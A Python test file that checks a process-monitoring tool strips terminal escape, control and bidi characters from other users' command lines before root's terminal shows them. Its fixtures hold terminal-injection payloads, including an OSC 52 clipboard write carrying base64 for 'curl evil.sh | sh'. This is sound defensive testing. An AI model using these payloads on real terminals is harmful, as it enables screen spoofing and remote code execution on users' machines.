"""What another user's process names (its command line, its script, its environment) reaches
root's terminal as text only: no escape sequence, control or bidi character survives
``tuneup watch status``, the live view or the summary (issue 40, item 8)."""

from __future__ import annotations

import io

from rich.console import Console
from test_verdict import cpu_window

from tuneup.machine.snapshot import printable
from tuneup.watch import summary
from tuneup.watch.control import print_status
from tuneup.watch.recent import Recent, script_of
from tuneup.watch.view import status_lines

CLEAR, TITLE = "\x1b[2J\x1b[H", "\x1b]0;pwned\x07"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g="  # OSC 52 without its end: the rest is eaten
C1_CSI, BIDI = "\x9b31m", "\u202e\u2066"
HOSTILE_SCRIPT = f"/home/eve/{CLEAR}tr{BIDI}ain{TITLE}.py"
HOSTILE_COMMAND = ["/usr/bin/python3", HOSTILE_SCRIPT, f"--note={C1_CSI}x\nfake row",
                   f"--last{CLIPBOARD}"]
FORBIDDEN = ("\x1b", "\x07", "\x9b", "\x9d", "\u202e", "\u2066")


def clean(text: str) -> bool:
    return not any(mark in text for mark in FORBIDDEN)


def test_printable_strips_every_kind_of_sequence():
    assert printable(f"a{CLEAR}b{TITLE}c{C1_CSI}d{BIDI}e\x1bP1$r\x1b\\f") == "abcdef"
    assert printable(f"keep{CLIPBOARD}") == "keep"
    assert printable("eve\udcff.py") == "eve\ufffd.py"  # bytes that were no UTF-8
    assert printable("one\ntwo\tthree", one_line=True) == "one two three"


def test_a_script_name_reaches_verdicts_and_labels_printable():
    script = script_of(HOSTILE_COMMAND)
    assert clean(script) and script.endswith("train.py")
    assert script_of(["python", "\udcffbad.py"]) == "\ufffdbad.py"
    recent = Recent(HOSTILE_COMMAND)
    for sample in cpu_window(98.0, [], wait_s=0.5):
        verdict = recent.add(sample)
    assert verdict is not None and clean(verdict.action) and clean(verdict.reason)


def hostile_status() -> dict:
    job = {"pid": 4242, "command": HOSTILE_COMMAND, "user": "eve", "found_by": "imports tuneup",
           "feed": False, "state": "running", "first_seen": "2026-11-28T09:00:00+00:00",
           "ended_at": None, "samples": 3, "verdict_since": "2026-11-28T09:00:05+00:00",
           "verdict": {"kind": "input-bound", "reason": f"waits {TITLE}in {HOSTILE_SCRIPT}",
                       "evidence": {}, "action": "more workers"}}
    return {"pid": 1, "state_dir": "/s", "log": "/s/watch.jsonl", "serve": None,
            "interval_s": 1.0, "started_at": "2026-11-28T09:00:00+00:00",
            "notes": [f"Python processes of eve{CLEAR} cannot be read"], "jobs": [job]}


def test_watch_status_text_carries_no_escape_from_a_job():
    out = io.StringIO()
    print_status(Console(file=out, width=200, highlight=False), hostile_status())
    text = out.getvalue()
    assert clean(text), repr(text)
    row = [line for line in text.splitlines() if "fake row" in line]
    assert len(row) == 1 and row[0].startswith("4242 ")  # a newline forges no row of its own
    assert "note: Python processes of eve cannot be read" in text


def test_the_summary_and_the_live_view_carry_no_escape_from_the_command():
    samples = cpu_window(98.0, [], wait_s=0.5)
    recent = Recent(HOSTILE_COMMAND)
    result = summary.build(samples, samples[-1].runtime, command=HOSTILE_COMMAND, pid=10,
                           exit_status=0, duration_s=5.0, interval_s=1.0,
                           notes=[f"note {TITLE}"], script=recent.script)
    result["verdict"]["reason"] += TITLE  # as a summary file written before this fix holds it
    out = io.StringIO()
    summary.print_text(Console(file=out, width=200), result)
    assert clean(out.getvalue()), repr(out.getvalue())
    for sample in samples:
        recent.add(sample)
    view = Console(file=io.StringIO(), width=200)
    for line in status_lines(samples[-1], recent.figures, recent.verdict):
        view.print(line)
    assert clean(view.file.getvalue())
